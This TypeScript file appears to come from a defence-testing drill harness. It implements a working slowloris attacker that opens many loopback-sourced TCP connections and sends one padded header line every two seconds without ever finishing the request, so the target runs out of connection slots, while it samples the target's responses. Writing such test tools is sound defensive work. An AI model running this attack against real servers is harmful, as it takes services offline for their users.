// The slowloris attacker: raw TCP connections from many loopback sources,
// each sending a request head one header line every 2 s and never finishing
// it, to exhaust the target's connection slots. Opens `rate` connections per
// second up to sources × connectionsPerSource open at once; every socket is
// destroyed at `until`. Once a second it samples the attack's hold on the
// target: sent[t] = its connections open, reached[t] = those open ≥ HOLD_MS.
import { connect, type Socket } from 'node:net';
import { loopbackSource } from './addresses.js';
import { sleepUntil } from './legit.js';
import type { AttackOptions } from './attack.js';

/** The attack's options, less the in-flight cap (a slowloris connection never completes). */
export type SlowlorisOptions = Omit<AttackOptions, 'maxInFlight'>;

const TRICKLE_MS = 2000;
export const HOLD_MS = 5000;

export async function runSlowloris(o: SlowlorisOptions): Promise<void> {
  const maxOpen = o.sources * o.scenario.connectionsPerSource;
  const open = new Map<Socket, number>();
  let seq = 0;
  let credit = 0;
  let last = o.start;
  await sleepUntil(o.start);
  let nextSample = o.start + 1000;
  while (Date.now() < o.until) {
    const now = Date.now();
    if (now >= nextSample) {
      sample(o, open, nextSample - 1);
      nextSample += 1000;
    }
    credit = Math.min(credit + ((now - last) / 1000) * o.rate, o.rate * 0.05 + 1);
    last = now;
    while (credit >= 1 && open.size < maxOpen) {
      credit--;
      openOne(o, open, seq++);
    }
    if (open.size >= maxOpen) credit = 0;
    await new Promise((r) => setTimeout(r, 10));
  }
  sample(o, open, Math.min(Date.now(), o.until - 1));
  for (const sock of open.keys()) sock.destroy();
  open.clear();
  await new Promise((r) => setImmediate(r));
}

/** Opens slow connection `n` from source n % sources; it stays in `open` until the target closes it. */
function openOne(o: SlowlorisOptions, open: Map<Socket, number>, n: number): void {
  const i = n % o.sources;
  const sentAt = Date.now();
  o.recorder.slowOpened++;
  const s = connect({ host: o.target.hostname, port: o.target.port, localAddress: loopbackSource('attack', i) });
  open.set(s, sentAt);
  if (open.size > o.recorder.slowPeak) o.recorder.slowPeak = open.size;
  let reply = '';
  let lines = 0;
  const h = o.scenario.headers(i);
  let head = `GET /?slow=${n} HTTP/1.1\r\nHost: ${o.target.host}\r\nx-drill-role: attack\r\n`;
  for (let k = 0; k < h.length; k += 2) head += `${h[k]}: ${h[k + 1]}\r\n`;
  if (o.xffOf) head += `x-forwarded-for: ${o.xffOf(i)}\r\n`;
  const timer = setInterval(() => s.write(`x-pad-${lines++}: ${lines}\r\n`), TRICKLE_MS);
  let connected = false;
  let error = '';
  s.setNoDelay(true);
  s.on('connect', () => {
    connected = true;
    s.write(head);
  });
  s.on('data', (d) => {
    if (reply.length < 512) reply += d.toString('latin1');
  });
  s.on('error', (e: NodeJS.ErrnoException) => {
    error = e.code ?? 'error';
  });
  s.on('close', () => {
    clearInterval(timer);
    if (!open.delete(s)) return; // our own teardown, already counted
    // Never connected (the target not listening yet, or restarting): an error, not a close.
    if (!connected) {
      o.recorder.attackResult(sentAt, false, `error/${error || 'not-connected'}`, true);
      return;
    }
    o.recorder.slowClosedByTarget++;
    const status = /^HTTP\/1\.[01] (\d{3})/.exec(reply)?.[1];
    const verdict = /\r\nrampart-verdict: ([^\r]+)/i.exec(reply)?.[1];
    o.recorder.attackResult(sentAt, false, verdict ?? (status ? `status/${status}` : 'closed-by-target'), false);
  });
}

/** Records, for the second containing `at`, the connections open and those open ≥ HOLD_MS. */
function sample(o: SlowlorisOptions, open: Map<Socket, number>, at: number): void {
  const t = o.recorder.second(at);
  if (t < 0) return;
  let held = 0;
  for (const openedAt of open.values()) if (at - openedAt >= HOLD_MS) held++;
  o.recorder.attack.sent[t] = open.size;
  o.recorder.attack.reachedByClient[t] = held;
}
